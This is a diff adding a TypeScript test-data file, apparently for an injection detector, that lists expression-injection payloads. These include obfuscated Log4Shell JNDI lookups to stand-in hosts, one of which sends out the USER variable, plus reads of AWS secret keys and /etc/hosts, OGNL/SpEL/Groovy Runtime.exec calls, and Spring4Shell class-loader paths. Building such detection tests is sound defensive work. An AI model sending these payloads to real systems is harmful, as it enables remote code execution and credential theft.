@@ -1,0 +1,77 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks have what looks like a placeholder
+import { type Case, casesOf } from './case.ts';
+
+const of = casesOf('expression-injection');
+
+export const EXPRESSION_INJECTION: readonly Case[] = [
+  ...of(
+    'name lookups, nested and spelled in every way',
+    '${jndi:ldap://198.51.100.7/q}',
+    '${jndi:rmi://h.example/q',
+    '${JNDI:dns://h.example}',
+    '${${lower:J}ndi:ldap://h.example/q}',
+    '${${upper:j}${lower:N}di:ldap://h.example/q}',
+    '${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://h.example}',
+    '${${env:Q:-j}ndi${env:Q:-:}ldap://h.example}',
+    '${${q:-${w:-j}}ndi:ldap://h.example}',
+    "${jn${date:'d'}i:ldap://h.example}",
+    '${jnd${upper:\u0131}:ldap://h.example}',
+    '${j${lower:${upper:${lower:N}}}di:iiop://h.example}',
+    '${j${${:-l}${:-o}wer:N}di:ldap://h.example}',
+    '$${jndi:ldap://h.example}',
+    '${q:-$${j${q:-}ndi:ldap://h.example}}',
+    '${base64:JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvcX0=}',
+    '%24%7Bjndi:ldap://h.example%7D',
+    '$\\u007bjndi:ldap://h.example}',
+    'Mozilla/5.0 ${jndi:ldap://h.example/${env:USER}}',
+  ),
+  ...of('spelling by lookups', '${lower:q}', '${::-q}', '${:-q}${upper:w}'),
+  ...of(
+    'scripts and requests',
+    '${script:javascript:1}',
+    '${url:UTF-8:https://h.example/}',
+    '${dns:address|h.example}',
+    '${file:UTF-8:/etc/hosts}',
+  ),
+  ...of('what the server keeps', '${env:AWS_SECRET_ACCESS_KEY}', '${sys:user.dir}', '${java:version}'),
+  ...of(
+    'OGNL',
+    "%{(#q=@java.lang.Runtime@getRuntime()).exec('w')}",
+    "%{#context['q'].setMemberAccess(1)}",
+    '${#_memberAccess}',
+    "(#q=new java.lang.ProcessBuilder('w')).(#q.start())",
+    '%{8*8}',
+    'redirect:${#req.getServletPath()}',
+    '@java.lang.System@getenv()',
+  ),
+  ...of(
+    'SpEL and EL',
+    "T(java.lang.Runtime).getRuntime().exec('w')",
+    "#{T(java.lang.Runtime).getRuntime().exec('w')}",
+    "${''.getClass().forName('java.lang.Runtime')}",
+    "''.class.forName('java.lang.Runtime').getRuntime()",
+    '${applicationScope}',
+    '${pageContext.request.getSession().invalidate()}',
+    '#{session.setAttribute("q", 1)}',
+    '#{9*9}',
+    "${new javax.script.ScriptEngineManager().getEngineByName('js')}",
+  ),
+  ...of(
+    'code as a whole value',
+    "java.lang.Runtime.getRuntime().exec('w')",
+    "'w'.execute()",
+    "new java.lang.ProcessBuilder('w').start()",
+    '@groovy.transform.ASTTest(value={assert true})',
+  ),
+  ...[
+    'class.module.classLoader.resources.context.parent.pipeline.first.pattern',
+    'class.classLoader.URLs[0]',
+    "class['classLoader'].q",
+    '#_memberAccess["allowStaticMethodAccess"]',
+  ].map((text) => ({
+    class: 'expression-injection',
+    what: 'a path of properties to the class loader, as a name',
+    text,
+    place: { key: true },
+  })),
+];
